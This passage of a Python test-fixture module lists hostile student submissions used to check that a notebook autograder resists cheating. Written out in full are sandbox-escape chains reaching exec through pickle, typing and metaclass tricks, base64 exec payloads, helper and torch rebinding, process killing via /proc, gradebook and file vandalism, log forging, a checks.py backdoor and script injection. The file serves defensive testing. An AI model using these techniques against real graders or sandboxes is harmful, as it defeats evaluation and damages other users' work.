"""Hostile submissions for notebook 01, each built from the reference answer.

Each entry changes a notebook (the reference answers, or the untouched
release for attacks that try to pass with no work at all) the way a student
trying to break or fool the grader might, and says what the right result is:
the test cells it must score zero on (at least: it may lose more, never gain
what its honest work does not deserve), and whether the scan must flag it for
review. ``make grade`` must grade each one right while grading the rest of the
class, and no attack may change anything outside its own sandbox.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

import nbformat

from course_grading.cells import grade_id as cell_grade_id

NB = nbformat.NotebookNode
SIGMOID_TESTS = frozenset({"nb01_sigmoid_tests", "nb01_sigmoid_hidden_tests"})
BCE_TESTS = frozenset({"nb01_bce_tests", "nb01_bce_hidden_tests"})
GRADIENT_TESTS = frozenset({"nb01_gradient_tests", "nb01_gradient_hidden_tests"})
STABLE_SIGMOID = ("    negative = z < 0\n    e = torch.exp(torch.where(negative, z, -z))  # exp(-|z|), in (0, 1]\n"
                  "    return torch.where(negative, e / (1 + e), 1 / (1 + e))")
OVERFLOWING_SIGMOID = "    return torch.exp(z) / (1 + torch.exp(z))"


ALL_TESTS = SIGMOID_TESTS | BCE_TESTS | GRADIENT_TESTS


@dataclass(frozen=True)
class Hostile:
    name: str
    attack: str
    build: Callable[[NB], None]
    loses: frozenset[str] = frozenset()
    flagged: bool = True
    blank: bool = False  # built on the untouched release (no honest work), not on the reference answers
    may_crash: bool = False  # it may take its own kernel down: then "not graded", 0, and the cause
    # With the allowlist off (COURSE_GRADER_ALLOWLIST=off) the answer runs as written, in the worker: these
    # cells it may keep, because its values are right there and only a forbidden call that check_avoids
    # cannot see (or a case the visible test cannot tell) stands against it, which the boundary accepts:
    # at most the marks of a correct answer that used a forbidden call.
    off_may_keep: frozenset[str] = frozenset()


def _cell(nb: NB, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if cell_grade_id(c) == grade_id)


def _replace(grade_id: str, old: str, new: str) -> Callable[[NB], None]:
    def build(nb: NB) -> None:
        cell = _cell(nb, grade_id)
        assert cell.source.count(old) == 1, (grade_id, old)
        cell.source = cell.source.replace(old, new)
    return build


def _prepend(grade_id: str, code: str) -> Callable[[NB], None]:
    def build(nb: NB) -> None:
        cell = _cell(nb, grade_id)
        cell.source = code + "\n" + cell.source
    return build


def _append(grade_id: str, code: str) -> Callable[[NB], None]:
    def build(nb: NB) -> None:
        cell = _cell(nb, grade_id)
        cell.source = cell.source + "\n" + code
    return build


def _both(*steps: Callable[[NB], None]) -> Callable[[NB], None]:
    def build(nb: NB) -> None:
        for step in steps:
            step(nb)
    return build


_wrong_sigmoid = _replace("nb01_sigmoid", STABLE_SIGMOID, OVERFLOWING_SIGMOID)


def _edit_test_cells(nb: NB) -> None:
    for grade_id in SIGMOID_TESTS:
        _cell(nb, grade_id).source = "assert True  # tests removed"


def _delete_test_cells(nb: NB) -> None:
    nb.cells = [c for c in nb.cells if cell_grade_id(c) not in SIGMOID_TESTS]


def _test_cells_to_markdown(nb: NB) -> None:
    for i, cell in enumerate(nb.cells):
        if cell_grade_id(cell) in SIGMOID_TESTS:
            markdown = nbformat.v4.new_markdown_cell("tests? what tests?", metadata=cell.metadata)
            markdown["id"] = cell.get("id", f"md-{i}")
            nb.cells[i] = markdown


def _duplicate_test_cell(nb: NB) -> None:
    index = nb.cells.index(_cell(nb, "nb01_sigmoid_tests"))
    copy = nbformat.from_dict(dict(nb.cells[index]))
    copy.source = "assert True  # a friendlier copy"
    copy["id"] = "duplicate-of-sigmoid-tests"
    nb.cells.insert(index + 1, copy)


HOSTILE: list[Hostile] = [
    Hostile("infinite-loop", "an infinite loop inside the answer for large inputs",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    while bool(z.abs().max() > 500):\n        pass\n" + STABLE_SIGMOID),
            loses=SIGMOID_TESTS, flagged=False),
    Hostile("print-flood", "a cell that prints without end",
            _append("nb01_bce", "while True:\n    print('spam' * 50)"), flagged=True),
    Hostile("os-exit", "os._exit before the answer is defined",
            _prepend("nb01_bce", "import os\nos._exit(1)"), loses=BCE_TESTS),
    Hostile("sys-exit", "sys.exit before the answer is defined",
            _prepend("nb01_gradient", "import sys\nsys.exit(0)"), loses=GRADIENT_TESTS),
    Hostile("memory-hog", "allocating 8 GiB and touching it, each time the answer is called",
            _replace("nb01_bce", "    log_p = torch.log(p.clamp_min(eps))",
                     "    hog = torch.ones(2 * 2**30)\n    log_p = torch.log(p.clamp_min(eps))"), loses=BCE_TESTS),
    Hostile("memory-hog-at-top-level", "allocating 8 GiB at the top level of an answer cell (left out, never run)",
            _prepend("nb01_bce", "hog = torch.ones(2 * 2**30)")),
    Hostile("edited-test-cells", "a wrong answer with its test cells edited to pass",
            _both(_wrong_sigmoid, _edit_test_cells), loses=SIGMOID_TESTS, flagged=False),
    Hostile("deleted-test-cells", "a wrong answer with its test cells deleted",
            _both(_wrong_sigmoid, _delete_test_cells), loses=SIGMOID_TESTS, flagged=False),
    Hostile("markdown-test-cells", "a wrong answer with its test cells turned into Markdown",
            _both(_wrong_sigmoid, _test_cells_to_markdown), loses=SIGMOID_TESTS, flagged=False),
    Hostile("duplicated-test-cell", "a wrong answer with a passing duplicate of its test cell",
            _both(_wrong_sigmoid, _duplicate_test_cell), loses=SIGMOID_TESTS, flagged=False),
    Hostile("rebind-check-helpers", "a wrong answer that rebinds course_utils.checks helpers",
            _both(_wrong_sigmoid, _append("nb01_sigmoid",
                  "import course_utils.checks as _c\n"
                  "_c.check_close = _c.check_tensor = _c.check_warning_free = lambda *a, **k: None\n"
                  "check_close = check_tensor = check_warning_free = lambda *a, **k: None")),
            loses=SIGMOID_TESTS),
    Hostile("rebind-torch-and-builtins", "a wrong answer that rebinds torch.allclose, assert_close, builtins",
            _both(_wrong_sigmoid, _append("nb01_sigmoid",
                  "import builtins\ntorch.allclose = lambda *a, **k: True\n"
                  "torch.testing.assert_close = lambda *a, **k: None\n"
                  "builtins.all = lambda *a: True\nbuiltins.abs = lambda x: 0\n"
                  "torch.Tensor.__le__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)")),
            loses=SIGMOID_TESTS),
    Hostile("always-equal", "an answer returning an object whose comparisons are always true",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    class _Yes:\n        def __eq__(self, other):\n            return True\n"
                     "        __le__ = __ge__ = __lt__ = __gt__ = __eq__\n    return _Yes()"),
            loses=SIGMOID_TESTS),  # bce_gradient is graded with torch.sigmoid: the reference gradient keeps its points
    Hostile("nbgrader-execution", "an answer that is right only when NBGRADER_EXECUTION is set",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    import os\n    if os.environ.get('NBGRADER_EXECUTION'):\n"
                     "        return torch.sigmoid(z)\n" + OVERFLOWING_SIGMOID),
            loses=SIGMOID_TESTS),
    Hostile("write-gradebook", "writing to the gradebook (the grade would be lost if it worked)",
            _append("nb01_bce", "for _p in ('../../../gradebook.db', '../../../../gradebook.db'):\n"
                                "    try:\n        open(_p, 'wb').write(b'0 points')\n"
                                "    except OSError:\n        pass")),
    Hostile("read-hidden-tests", "an answer that is right only if it can read the hidden tests from disk",
            _replace("nb01_gradient", "    return grad_w, grad_b",
                     "    readable = 0\n"
                     "    for path in ('../01_sigmoid_bce.ipynb', '../../../gradebook.db', SOLUTION_PATH):\n"
                     "        try:\n            open(path, 'rb').read(1)\n            readable += 1\n"
                     "        except OSError:\n            pass\n"
                     "    return (grad_w, grad_b) if readable else (-grad_w, -grad_b)"),
            loses=GRADIENT_TESTS),
    Hostile("vandal", "overwriting other students' files and the instructor's files",
            _append("nb01_bce", "import glob\n"
                                "for _p in glob.glob(OTHERS_GLOB, recursive=True) + glob.glob(CANARY_GLOB):\n"
                                "    try:\n        open(_p, 'a').write('vandalised')\n"
                                "    except OSError:\n        pass")),
]

def _new_cell(code: str, before: str = "nb01_sigmoid_tests") -> Callable[[NB], None]:
    """Add a code cell of the student's own just before a cell."""
    def build(nb: NB) -> None:
        index = nb.cells.index(_cell(nb, before))
        cell = nbformat.v4.new_code_cell(code)
        cell["id"] = f"added-{index}"
        nb.cells.insert(index, cell)
    return build


def _setup_cell(code: str) -> Callable[[NB], None]:
    """Append code to the (unlocked) set-up cell, the first code cell after the Colab cell."""
    def build(nb: NB) -> None:
        cell = next(c for c in nb.cells if c.cell_type == "code" and "google.colab" not in c.source)
        cell.source += "\n" + code
    return build


def _fake_test_cell(nb: NB) -> None:
    """A cell of the student's that claims the hidden test's grade id (and passes)."""
    original = _cell(nb, "nb01_sigmoid_hidden_tests")
    fake = nbformat.from_dict(dict(original))
    fake.source = "assert True"
    fake["id"] = "fake-hidden-test"
    nb.cells.insert(nb.cells.index(original), fake)
    nb.cells.remove(original)


def _test_cell_claims_an_answer(nb: NB) -> None:
    """A test cell relabelled as an answer cell, its checks removed."""
    for grade_id in SIGMOID_TESTS:
        cell = _cell(nb, grade_id)
        cell.metadata["nbgrader"].update(solution=True, grade=False, locked=False)
        cell.source = "pass"


_IPYTHON = "ip = get_ipython()\n"
_BYPASS = "sigmoid = bce_loss = bce_gradient = lambda *a, **k: None"

# Attacks on the verdict, each tried from an answer cell or a cell of the student's own:
# IPython's machinery, tracing, torch internals, the object model, threads, processes,
# files, feedback. None of them may earn a point the honest work does not.
HOSTILE += [
    Hostile("input-transformer", "an input transformer that rewrites every later cell to `pass`",
            _new_cell(_IPYTHON + "ip.input_transformers_cleanup.append(lambda lines: ['pass\\n'])"),
            loses=ALL_TESTS, blank=True),
    Hostile("ast-transformer", "an AST transformer that wraps every later statement in try/except",
            _new_cell("import ast\nclass Swallow(ast.NodeTransformer):\n"
                      "    def visit_Module(self, node):\n"
                      "        node.body = [ast.Try(body=node.body, handlers=[ast.ExceptHandler(type=None, name=None,"
                      " body=[ast.Pass()])], orelse=[], finalbody=[])]\n        return ast.fix_missing_locations(node)\n"
                      + _IPYTHON + "ip.ast_transformers.append(Swallow())"),
            loses=ALL_TESTS, blank=True),
    Hostile("custom-exceptions", "custom exception handling that hides every failure",
            _new_cell(_IPYTHON + "ip.set_custom_exc((BaseException,), lambda *a, **k: None)"),
            loses=ALL_TESTS, blank=True),
    Hostile("post-run-hook", "a post-run hook that resets the cell's error state",
            _new_cell(_IPYTHON + "ip.events.register('post_run_cell', lambda r: setattr(r, 'error_in_exec', None))"),
            loses=ALL_TESTS, blank=True),
    Hostile("pre-run-rebinding", "a pre-run hook that re-binds the answers before every cell",
            _new_cell(_IPYTHON + "ip.events.register('pre_run_cell', lambda info: ip.user_ns.update("
                      "sigmoid=lambda z: torch.sigmoid(z), bce_loss=lambda p, y, eps=1e-7: torch.tensor(0.0)))"),
            loses=ALL_TESTS, blank=True),
    Hostile("settrace", "a trace function that rewrites the check helpers' locals while they run",
            _both(_wrong_sigmoid, _append("nb01_sigmoid",
                  "import sys\ndef _tracer(frame, event, arg):\n"
                  "    if frame.f_code.co_name.startswith('check'):\n        frame.f_locals['expected'] = frame.f_locals.get('actual')\n"
                  "    return _tracer\nsys.settrace(_tracer)")),
            loses=SIGMOID_TESTS),
    Hostile("setprofile", "a profile function installed from inside the answer",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    import sys\n    sys.setprofile(lambda *a: None)\n" + OVERFLOWING_SIGMOID),
            loses=SIGMOID_TESTS),
    Hostile("torch-function-mode", "a TorchFunctionMode entered and never left, so every torch call is the student's",
            _both(_wrong_sigmoid, _append("nb01_sigmoid",
                  "from torch.overrides import TorchFunctionMode\nclass _Lie(TorchFunctionMode):\n"
                  "    def __torch_function__(self, func, types, args=(), kwargs=None):\n"
                  "        if func in (torch.allclose, torch.isclose, torch.equal):\n            return True\n"
                  "        return func(*args, **(kwargs or {}))\n_Lie().__enter__()")),
            loses=SIGMOID_TESTS),
    Hostile("swap-code", "a check helper's __code__ swapped for one that checks nothing",
            _both(_wrong_sigmoid, _append("nb01_sigmoid",
                  "check_close.__code__ = (lambda *a, **k: None).__code__\n"
                  "check_tensor.__code__ = (lambda *a, **k: None).__code__")),
            loses=SIGMOID_TESTS),
    Hostile("swap-code-in-function", "the same swap done from inside the answer function",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    check_close.__code__ = (lambda *a, **k: None).__code__\n" + OVERFLOWING_SIGMOID),
            loses=SIGMOID_TESTS),
    Hostile("clear-hooks", "the grading kernel's own hooks removed, then helpers rebound",
            _both(_wrong_sigmoid, _new_cell(_IPYTHON + "ip.events.callbacks['post_run_cell'].clear()\n"
                                            "ip.events.callbacks['pre_run_cell'].clear()\n"
                                            "import course_utils.checks as c\nc.check_close = lambda *a, **k: None",
                                            before="nb01_sigmoid_tests")),
            loses=SIGMOID_TESTS),
    Hostile("edited-setup-cell", "the unlocked set-up cell edited to stub out the check helpers",
            _both(_wrong_sigmoid, _setup_cell("check_close = check_tensor = check_warning_free = "
                                              "lambda *a, **k: None")),
            loses=SIGMOID_TESTS),
    Hostile("control-thread", "code scheduled on the kernel's control thread, outside the cell's thread",
            _new_cell(_IPYTHON + "ip.kernel.control_thread.io_loop.add_callback(lambda: ip.user_ns.update("
                      "sigmoid=torch.sigmoid))"),
            loses=ALL_TESTS, blank=True),
    Hostile("getattr-built-name", "torch.allclose replaced through getattr/setattr with built-up names",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    setattr(torch, 'all' + 'close', lambda *a, **k: True)\n" + OVERFLOWING_SIGMOID),
            loses=SIGMOID_TESTS),
    Hostile("exec-base64", "a base64 payload passed to exec",
            _both(_wrong_sigmoid, _append("nb01_sigmoid",
                  "import base64\nexec(base64.b64decode(" + repr(__import__("base64").b64encode(
                      b"import torch\ntorch.allclose = lambda *a, **k: True").decode()) + "))")),
            loses=SIGMOID_TESTS),
    Hostile("vars-update", "vars(torch).update from inside the answer",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    vars(torch).update(allclose=lambda *a, **k: True)\n" + OVERFLOWING_SIGMOID),
            loses=SIGMOID_TESTS),
    Hostile("module-alias-patch", "torch.allclose patched through a local alias of a module inside the answer",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    t = F.torch\n    t.allclose = lambda *a, **k: True\n" + OVERFLOWING_SIGMOID),
            loses=SIGMOID_TESTS),
    Hostile("always-equal-module", "an nn.Module whose comparisons are always true, returned as the answer",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    return _Yes()\nclass _Yes(torch.nn.Module):\n    def __eq__(self, other):\n        return True\n"
                     "    __le__ = __ge__ = __lt__ = __gt__ = __eq__"),
            loses=SIGMOID_TESTS),  # bce_gradient is graded with torch.sigmoid: the reference gradient keeps its points
    Hostile("history-magic", "%history in an answer cell, to print every cell (hidden tests too) into the feedback",
            _append("nb01_gradient", "%history"), loses=GRADIENT_TESTS),
    Hostile("script-in-feedback", "an answer that prints a script (and is otherwise right)",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    print('<script>document.title = \"pwned\"</script><img src=x onerror=alert(1)>')\n"
                     + STABLE_SIGMOID), flagged=False),
    Hostile("html-display", "rich HTML and JavaScript output from a cell of the student's own",
            _new_cell("from IPython.display import HTML, Javascript, display\n"
                      "display(HTML('<script>alert(1)</script>'), Javascript('alert(2)'))")),
    Hostile("print-flood-in-answer", "an answer that prints megabytes each time it is called (and is otherwise right)",
            _replace("nb01_sigmoid", STABLE_SIGMOID, "    print('spam ' * 400_000)\n" + STABLE_SIGMOID),
            flagged=False),
    Hostile("process-bomb", "an answer that starts hundreds of DataLoader worker processes",
            _replace("nb01_bce", "    log_p = torch.log(p.clamp_min(eps))",
                     "    list(torch.utils.data.DataLoader(list(range(1000)), num_workers=300, batch_size=1))\n"
                     "    log_p = torch.log(p.clamp_min(eps))"),
            # the grading kernel's DataLoader loads in its own process: the bomb starts nothing, the answer is right
            flagged=False, may_crash=True),
    Hostile("detached-rewriter", "a detached process that rewrites grades.csv and report.txt after the run",
            _new_cell("import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 4; for f in GRADES_GLOB; do "
                      "echo hacked > $f; done'], start_new_session=True)")),
    Hostile("kill-classmates", "a child process that finds the other grading kernels in /proc and kills them",
            _new_cell("import os, signal\nfor _pid in os.listdir('/proc'):\n    if _pid.isdigit() and "
                      "int(_pid) != os.getpid():\n        try:\n            os.kill(int(_pid), signal.SIGKILL)\n"
                      "        except OSError:\n            pass")),
    Hostile("shm-and-tmp-droppings", "files left in /dev/shm and /tmp for later runs",
            _new_cell("for _p in ('/dev/shm/course-grader-dropping', '/tmp/course-grader-dropping'):\n"
                      "    open(_p, 'w').write('left behind')")),
    Hostile("backdoor-checks", "course_utils/checks.py rewritten so every later student gets 0",
            _new_cell("import course_utils.checks as c\nopen(c.__file__, 'a').write('\\nraise SystemExit')")),
    Hostile("copy-solutions", "the solutions read from disk and executed, for full marks with no work",
            _new_cell("exec(compile(''.join(c['source'] if isinstance(c['source'], str) else ''.join(c['source'])"
                      " for c in __import__('json').load(open(SOLUTION_PATH))['cells'] if 'def ' in str(c['source'])),"
                      " 'x', 'exec'))"),
            loses=ALL_TESTS, blank=True),
    Hostile("fake-hidden-test", "a cell of the student's own claiming the hidden test's grade id",
            _both(_wrong_sigmoid, _fake_test_cell), loses=SIGMOID_TESTS, flagged=False),
    Hostile("test-cell-as-answer", "test cells relabelled as answer cells with their checks removed",
            _both(_wrong_sigmoid, _test_cell_claims_an_answer), loses=SIGMOID_TESTS, flagged=False),
    Hostile("network", "a connection to the outside and to the grader's own loopback",
            _new_cell("import socket\nfor _addr in (('1.1.1.1', 53), ('127.0.0.1', 22)):\n    try:\n"
                      "        socket.create_connection(_addr, timeout=2)\n    except OSError:\n        pass")),
]

# Each of these got through the first version of this grader.
_WRONG_ANSWERS = {
    "nb01_sigmoid": "def sigmoid(z):\n    return z * 0 + 0.25\n",
    "nb01_bce": "def bce_loss(p, y, eps=1e-7):\n    return (p - y).sum() * 0 + 20.0\n",
    "nb01_gradient": "def bce_gradient(X, y, w, b):\n    return w * 0, b * 0\n",
}
_SKIP_TESTS = ("import IPython\nip = IPython.get_ipython()\n"
               "ip.input_transformers_post.append(lambda lines: ['pass\\n'] if 'check_' in ''.join(lines) "
               "or 'HIDDEN' in ''.join(lines) else lines)\n")
_FAKE_RESULT = ("import IPython\nip = IPython.get_ipython()\ndef first(info):\n"
                "    ip.displayhook.start_displayhook(); ip.displayhook.write_output_prompt()\n"
                "    ip.displayhook.write_format_data({'text/plain': \"'full marks please'\"}, {})\n"
                "    ip.displayhook.finish_displayhook()\nip.events.register('pre_run_cell', first)\n")
_FORGE_LOG = ("import os\nfd = os.open('/proc/1/fd/2', os.O_WRONLY)\n"
              "os.write(fd, b\"[AutogradeApp | INFO] Creating/updating student with ID 'reference': {}\\n"
              "[AutogradeApp | ERROR] Kernel died: forged by a classmate\\n\")\n")


def _wrong_answers(extra: str = "", cell: str = "nb01_sigmoid") -> Callable[[NB], None]:
    def build(nb: NB) -> None:
        for grade_id, answer in _WRONG_ANSWERS.items():
            _cell(nb, grade_id).source = "import torch\n" + answer + (extra if grade_id == cell else "")
    return build


def _escape(code: str, via: str) -> str:
    """Answer-cell lines that tried to reach full Python through an allowed module."""
    if via == "operator":
        return f"import typing\npwn = typing.operator.attrgetter('sys')(typing).modules['builtins'].exec({code!r})\n"
    return ("pwn = torch.serialization.pickle.Unpickler(torch.serialization.io.BytesIO(b'')).find_class("
            f"'builtins', 'exec')({code!r})\n")


HOSTILE += [
    Hostile("shadow-helpers-and-builtins", "wrong answers that redefine check_close, check_tensor, bool and float",
            _wrong_answers("def check_close(*a, **k):\n    return None\ndef check_tensor(*a, **k):\n    return None\n"
                           "def check_warning_free(*a, **k):\n    return None\ndef bool(x):\n    return True\n"
                           "def float(x):\n    return 20.0\n"),
            loses=ALL_TESTS),
    Hostile("update-wrapper-globals", "functools.update_wrapper merging the notebook's names into the checks' globals",
            _wrong_answers("import functools\n_fail = max\ndef helper():\n    pass\n"
                           "pwn = functools.update_wrapper(check_close, helper, assigned=(), updated=('__globals__',))\n"),
            loses=ALL_TESTS),
    Hostile("escape-through-operator", "typing.operator.attrgetter to reach builtins.exec, then skip every test cell",
            _wrong_answers(_escape(_SKIP_TESTS, "operator")), loses=ALL_TESTS),
    Hostile("escape-through-pickle", "torch.serialization.pickle to reach builtins.exec, then fake a result per test",
            _wrong_answers(_escape(_FAKE_RESULT, "pickle")), loses=ALL_TESTS),
    Hostile("forge-classmate-log", "writing forged log lines for a classmate to nbgrader's stderr",
            _append("nb01_bce", _escape(_FORGE_LOG, "operator"))),
]

# These got through a later version: objects that are not modules by name (a local alias, a
# subscript, a default argument) led to the same gadgets.
_GADGET = ".serialization.pickle.Unpickler({m}.serialization.io.BytesIO(b'')).find_class('built'+'ins', 'ex'+'ec')"
HOSTILE += [
    Hostile("gadget-at-top-level", "a top-level assignment reaching exec through [torch][0].serialization",
            _wrong_answers("pwn = [torch][0]" + _GADGET.format(m="[torch][0]") + "(" + repr(_SKIP_TESTS) + ")\n"),
            loses=ALL_TESTS),
    Hostile("gadget-through-alias", "a local alias of torch reaching exec inside the answer",
            _replace("nb01_sigmoid", STABLE_SIGMOID,
                     "    t = torch\n    run = t" + _GADGET.format(m="t") + "\n    run(" + repr(_SKIP_TESTS) + ")\n"
                     + OVERFLOWING_SIGMOID),
            loses=SIGMOID_TESTS),
    Hostile("gadget-through-default", "a default argument holding torch, reaching exec inside the answer",
            _both(_wrong_sigmoid, _append("nb01_sigmoid", "def helper(z, t=torch):\n    return t" + _GADGET.format(m="t"))),
            loses=SIGMOID_TESTS),
]

# This got through a later version: a class base named Module but bound to typing.Type made a
# metaclass, whose classes may hold any dunder; nn.TransformerEncoder's deepcopy of one called its
# __reduce_ex__ (a setattr on any object), and a DataLoader worker's result, unpickled in the kernel,
# then named builtins.exec through the redirected torch.builtins.
_METACLASS_CHAIN = (
    "import typing\nModule = typing.Type\n\n\nclass Meta(Module):\n    def noop(self):\n        return None\n\n\n"
    "def put(target, key, value):\n    def give():\n        return target\n\n"
    "    def red(self, proto):\n        return (give, (), (None, {key: value}))\n"
    "    evil = Meta('Evil', (torch.nn.Module,), {'__reduce_ex__': red})\n"
    "    torch.nn.TransformerEncoder(evil(), 1, enable_nested_tensor=False)\n\n\n"
    "def in_worker(i):\n    def red2(self, proto):\n        return (runner, (PAYLOAD,))\n"
    "    runner = Meta('exec', (), {'__module__': 'torch', '__qualname__': 'builtins.exec'})\n"
    "    put(torch, 'builtins', Meta('Holder', (), {'exec': runner}))\n"
    "    return Meta('Carrier', (), {'__reduce_ex__': red2})()\n\n\n"
    "def sigmoid(z, done=[]):\n    if not done:\n        done.append(1)\n"
    "        data = Meta('Data', (), {'__getitem__': lambda self, i: in_worker(i), '__len__': lambda self: 1})\n"
    "        for item in torch.utils.data.DataLoader(data(), batch_size=None, num_workers=1):\n"
    "            done.append(item)\n    return z * 0 + 0.25\n")
HOSTILE += [
    Hostile("metaclass-deepcopy-pickle", "a metaclass via a base named Module, deepcopy as setattr, a DataLoader "
            "worker's pickle reaching exec, then skip every test cell",
            _wrong_answers(_METACLASS_CHAIN.replace("PAYLOAD", repr(_SKIP_TESTS))), loses=ALL_TESTS),
]

# These got through that version too: a class used as a value (tool = Tool; tool.put(F, f)) let its
# method's self.<name> = ... replace a torch function the hidden tests compute their reference with;
# anomaly mode's stacks (grad_fn.metadata) carried the hidden tests' source lines into the feedback.
_SETATTR_BCE = ("class Tool(torch.nn.Module):\n    def put(self, value):\n        self.binary_cross_entropy = value\n\n\n"
                "def bce_loss(p, y, eps=1e-7):\n    tool = Tool\n    tool.put(F, bce_loss)\n"
                "    log_p = torch.log(p.clamp_min(eps))\n    log_not_p = torch.log((1 - p).clamp_min(eps))\n"
                "    return -((y * log_p + (1 - y) * log_not_p) * (1 + p * (1 - p))).mean()\n")
_SETATTR_GRADIENT = ("class Tool2(torch.nn.Module):\n    def put(self, value):\n"
                     "        self.binary_cross_entropy_with_logits = value\n\n\n"
                     "def twice(x, t):\n    return 2 * (x.clamp(min=0) - x * t + torch.log1p(torch.exp(-x.abs()))).mean()\n\n\n"
                     "def bce_gradient(X, y, w, b):\n    tool = Tool2\n    tool.put(F, twice)\n"
                     "    residual = sigmoid(X @ w + b) - y\n    return 2 * (X.T @ residual / X.shape[0]), 2 * residual.mean()\n")
_ANOMALY_BCE = ("def bce_loss(p, y, eps=1e-7, seen=[], show=False):\n    if show:\n"
                "        print(''.join(f for stack in seen for f in stack if 'in bce_loss' not in f))\n        return None\n"
                "    with torch.autograd.detect_anomaly(check_nan=False):\n"
                "        probe = p.detach().requires_grad_(True) * 1.0\n"
                "    seen.append(probe.grad_fn.metadata['traceback_'])\n"
                "    log_p = torch.log(p.clamp_min(eps))\n    log_not_p = torch.log((1 - p).clamp_min(eps))\n"
                "    return -(y * log_p + (1 - y) * log_not_p).mean()\n")
_ANOMALY_GRADIENT = ("def bce_gradient(X, y, w, b):\n    bce_loss(X, y, 1e-7, show=True) if X.shape[0] == 3 else None\n"
                     "    residual = sigmoid(X @ w + b) - y\n    return X.T @ residual / X.shape[0], residual.mean()\n")


def _answers(**sources: str) -> Callable[[NB], None]:
    def build(nb: NB) -> None:
        for grade_id, source in sources.items():
            _cell(nb, grade_id).source = source
    return build


HOSTILE += [
    Hostile("setattr-through-class-alias", "a class used as a value, whose method sets F.binary_cross_entropy "
            "(the hidden tests' reference) to the student's own wrong loss",
            _answers(nb01_bce=_SETATTR_BCE, nb01_gradient=_SETATTR_GRADIENT), loses=BCE_TESTS | GRADIENT_TESTS),
    Hostile("anomaly-stack-leak", "anomaly mode's autograd stacks printed in a visible test: the hidden tests' lines",
            _answers(nb01_bce=_ANOMALY_BCE, nb01_gradient=_ANOMALY_GRADIENT)),
]

# And these got through that one: typing.get_origin(typing.Type) is the builtin type, which made the
# metaclass chain and a class as a value again; the notebook's tables of forbidden calls were dicts
# an answer could empty with .update.
_TYPE_ORIGIN_CHAIN = _METACLASS_CHAIN.replace(
    "import typing\nModule = typing.Type\n\n\nclass Meta(Module):\n    def noop(self):\n        return None\n",
    "import typing\n\n\ndef Meta(*args):\n    return typing.get_origin(typing.Type)(*args)\n")
_TYPE_ORIGIN_SETATTR = ("import typing\n\n\nclass Tool(torch.nn.Module):\n    def put(self, value):\n"
                        "        self.binary_cross_entropy = value\n\n\n"
                        "def bce_loss(p, y, eps=1e-7):\n    typing.get_origin(typing.Type)(Tool()).put(F, bce_loss)\n"
                        "    log_p = torch.log(p.clamp_min(eps))\n    log_not_p = torch.log((1 - p).clamp_min(eps))\n"
                        "    return -((y * log_p + (1 - y) * log_not_p) * (1 + p * (1 - p))).mean()\n")
_EMPTY_TABLES_SIGMOID = ("def sigmoid(z):\n    LIBRARY_BCE.update({k: torch.kron for k in list(LIBRARY_BCE)})\n"
                         "    AUTOGRAD.update({k: torch.kron for k in list(AUTOGRAD)})\n" + STABLE_SIGMOID)
_LIBRARY_BCE = "def bce_loss(p, y, eps=1e-7):\n    return F.binary_cross_entropy(p.clamp(eps, 1 - eps), y)\n"
_AUTOGRAD_GRADIENT = ("def bce_gradient(X, y, w, b):\n    w2 = w.detach().clone().requires_grad_(True)\n"
                      "    b2 = b.detach().clone().requires_grad_(True)\n"
                      "    loss = F.binary_cross_entropy_with_logits(X @ w2 + b2, y)\n"
                      "    return torch.autograd.grad(loss, (w2, b2))\n")
HOSTILE += [
    Hostile("type-origin-chain", "typing.get_origin(typing.Type) as the metaclass of the deepcopy and pickle chain, "
            "then skip every test cell", _wrong_answers(_TYPE_ORIGIN_CHAIN.replace("PAYLOAD", repr(_SKIP_TESTS))),
            loses=ALL_TESTS),
    Hostile("type-origin-class-value", "typing.get_origin(typing.Type)(Tool()), the class as a value, setting "
            "F.binary_cross_entropy to the student's wrong loss", _answers(nb01_bce=_TYPE_ORIGIN_SETATTR),
            loses=BCE_TESTS),
    Hostile("empty-forbidden-tables", "LIBRARY_BCE and AUTOGRAD emptied with .update, then the library loss and "
            "autograd where the exercise asks for them by hand",
            _answers(nb01_sigmoid=_EMPTY_TABLES_SIGMOID, nb01_bce=_LIBRARY_BCE, nb01_gradient=_AUTOGRAD_GRADIENT),
            loses=ALL_TESTS),
]

# And these got through that one: a method written in Python, read from its class, takes any object
# as self (StepLR.state_dict(torch) is torch.__dict__, so sys.modules and exec; load_state_dict(F, ...)
# rebinds F's functions); F.glu and F.soft_margin_loss are the library sigmoid and BCE under other
# names; and an autograd graph walked by hand is autograd that check_avoids never saw.
_STATE_DICT_ESCAPE = ("def sigmoid(z, done=[]):\n    if not done:\n        done.append(1)\n"
                      "        grab = torch.optim.lr_scheduler.StepLR.state_dict\n"
                      "        mods = grab(grab(torch)['sys'])['modules']\n"
                      "        grab(mods['builtins'])['exec'](" + repr(_SKIP_TESTS) + ")\n    return z * 0 + 0.25\n")
_STATE_DICT_PATCH = ("def bce_loss(p, y, eps=1e-7):\n    torch.optim.lr_scheduler.StepLR.load_state_dict(\n"
                     "        F, {'binary_cross_entropy': bce_loss, 'binary_cross_entropy_with_logits': over_three})\n"
                     "    log_p = torch.log(p.clamp_min(eps))\n    log_not_p = torch.log((1 - p).clamp_min(eps))\n"
                     "    return -(y * log_p + (1 - y) * log_not_p).mean(dim=-1)\n\n\n"
                     "def over_three(x, t):\n"
                     "    return (x.clamp(min=0) - x * t + torch.log1p(torch.exp(-x.abs()))).sum() / 3\n")
_OVER_THREE_GRADIENT = ("def bce_gradient(X, y, w, b):\n    residual = sigmoid(X @ w + b) - y\n"
                        "    return X.T @ residual / 3, residual.sum() / 3\n")
_GLU_SIGMOID = ("def sigmoid(z):\n    pair = torch.stack([torch.ones_like(z), z], dim=-1)\n"
                "    return F.glu(pair, dim=-1)[..., 0]\n")
